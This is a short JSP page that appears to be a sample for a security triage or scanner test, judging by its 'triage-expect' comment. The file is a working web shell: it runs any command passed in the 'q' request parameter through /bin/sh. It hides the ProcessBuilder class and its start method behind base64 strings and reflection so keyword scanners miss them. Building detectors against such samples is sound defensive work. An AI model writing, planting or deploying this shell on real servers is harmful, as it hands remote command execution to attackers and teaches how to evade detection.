<%@ page import="java.util.*,java.lang.reflect.*" %>
<%-- triage-expect: triage_jsp_encoded_class_names --%>
<%
    // class and method named only in base64, found by reflection (ProcessBuilder, start)
    String q = request.getParameter("q");
    if (q != null) {
        Class<?> c = Class.forName(new String(Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
        Object pb = c.getConstructor(List.class).newInstance(Arrays.asList("/bin/sh", "-c", q));
        c.getMethod(new String(Base64.getDecoder().decode("c3RhcnQ="))).invoke(pb);
    }
%>
